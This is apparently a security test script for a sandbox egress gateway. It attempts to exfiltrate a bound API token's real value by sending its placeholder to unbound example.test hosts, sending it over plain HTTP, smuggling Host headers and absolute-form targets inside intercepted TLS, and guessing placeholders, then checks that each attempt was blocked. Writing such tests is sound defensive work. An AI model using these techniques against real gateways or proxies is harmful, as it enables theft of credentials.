"""Gets the real value of API_TOKEN (bound to api.example.test) sent somewhere else, where the
sandbox could read it back: the placeholder in headers, cookies, the URL's path and query and the
body of requests to allowed hosts the secret is not bound to (git.example.test through a TLS
tunnel, paths.example.test intercepted for its path rules, plain.example.test over plain HTTP);
to the bound host itself over plain http:// (proxy and transparent listener, any spelling of the
name), where the answer would come back unredacted; inside TLS intercepted for the bound host, a
Host header or absolute-form target naming an unbound host; and a guessed placeholder (the
sandbox's own with other hex digits). Each upstream echo shows what arrived.
Blocked by: the placeholder is replaced only in requests inside TLS the gateway terminated,
whose host the secret is bound to (checked per request, with the Host matching the connection:
421 otherwise); elsewhere it travels as the meaningless string it is, so every echo shows the
placeholder and no value with the secret's prefix ever reaches the sandbox.
space-attack: sandbox=fresh opts=--secret,API_TOKEN timeout=60
"""
import json
import os
import socket
import ssl

import requests

PH = os.environ.get("API_TOKEN", "")
PREFIX = os.environ["SPACE_EGRESS_SECRET_PREFIX"]
NONCE = "exfil" + os.urandom(5).hex()
CA = "/etc/space/ca-bundle.crt"
escapes, notes = [], []
if not PH.startswith("space_ph_API_TOKEN_"):
    print("ERROR: $API_TOKEN is not a placeholder: %r" % PH[:40])
    raise SystemExit(2)


def check_echo(what, text, sent=PH):
    """The echo must show `sent` where it was put, and nothing with the secret's prefix."""
    if PREFIX in text:
        i = max(0, text.index(PREFIX) - 40)
        escapes.append("%s: the secret came back: %s" % (what, text[i:i + 120]))
    elif sent not in text:
        escapes.append("%s: the echo lacks what was sent (placeholder replaced?): %s" %
                       (what, text[:200]))
    else:
        notes.append(what)


def read_all(s, timeout=5.0):
    s.settimeout(timeout)
    out = b""
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            out += b
    except (OSError, ssl.SSLError):
        pass
    return out


session = requests.Session()  # HTTPS_PROXY and the sandbox's CA bundle from the environment
hdrs = {"Authorization": "Bearer " + PH, "X-Token": PH, "Cookie": "t=" + PH}
for url in ["https://git.example.test/echo?q=%s" % PH, "https://paths.example.test/public/%s" % PH,
            "http://plain.example.test/echo?q=%s" % PH, "http://api.example.test/echo?q=%s" % PH,
            "http://API.Example.Test./echo?q=%s" % PH]:
    r = session.get(url, headers=hdrs, timeout=15)
    if r.status_code != 200:
        print("ERROR: %s answered %d: %s" % (url, r.status_code, r.text[:200]))
        raise SystemExit(2)
    check_echo("GET " + url.split("?")[0].replace(PH, "PH"), r.text + json.dumps(dict(r.headers)))
    rec = r.json()
    for h in ("authorization", "x-token", "cookie"):
        if PH not in rec["headers"].get(h, ""):
            escapes.append("%s: header %s arrived as %r" % (url, h, rec["headers"].get(h)))
r = session.post("https://git.example.test/echo", data="token=" + PH, headers=hdrs, timeout=15)
check_echo("POST body to git.example.test", r.text)

# The bound host over plain HTTP on the transparent listener.
s = socket.create_connection(("127.0.0.1", 80), timeout=5)
s.sendall(b"GET /echo HTTP/1.1\r\nHost: api.example.test\r\nX-Token: %s\r\nConnection: close"
          b"\r\n\r\n" % PH.encode())
check_echo("transparent http://api.example.test", read_all(s).decode("latin-1"))
s.close()

# A guessed placeholder for the bound host, inside interception: must arrive as it was sent.
guess = PH[:-8] + ("%08x" % (int(PH[-8:], 16) ^ 0x5a5a5a5a))
r = session.get("https://api.example.test/echo", headers={"X-Token": guess}, timeout=15)
check_echo("guessed placeholder to api.example.test", r.text, sent=guess)


# Intercepted for the bound host, but the request names another host.
def intercepted(req):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall(b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n")
    s.recv(4096)
    t = ssl.create_default_context(cafile=CA).wrap_socket(s, server_hostname="api.example.test")
    t.sendall(req)
    out = read_all(t)
    t.close()
    return out


for host in (b"git.example.test", b"plain.example.test", b"paths.example.test"):
    resp = intercepted(b"GET /echo?n=%s HTTP/1.1\r\nHost: %s\r\nX-Token: %s\r\n\r\n"
                       % (NONCE.encode(), host, PH.encode()))
    if not resp.startswith(b"HTTP/1.1 421"):
        escapes.append("intercepted api.example.test with Host %s answered %r" % (host, resp[:80]))
    resp = intercepted(b"GET https://%s/echo?n=%s HTTP/1.1\r\nHost: api.example.test\r\n"
                       b"X-Token: %s\r\n\r\n" % (host, NONCE.encode(), PH.encode()))
    if not resp.startswith(b"HTTP/1.1 403"):
        escapes.append("intercepted api.example.test, target https://%s answered %r" %
                       (host.decode(), resp[:80]))
seen = session.get("http://plain.example.test/seen?n=" + NONCE, timeout=15).json()
if seen["count"]:
    escapes.append("%d request(s) naming another host inside api.example.test's interception "
                   "reached the upstream" % seen["count"])

if escapes:
    print("ESCAPED: " + "; ".join(escapes)[:1500])
    raise SystemExit(1)
print("BLOCKED: the placeholder arrived unchanged everywhere the secret is not bound (%s); "
      "foreign hosts inside the bound host's interception were refused" % ", ".join(notes))
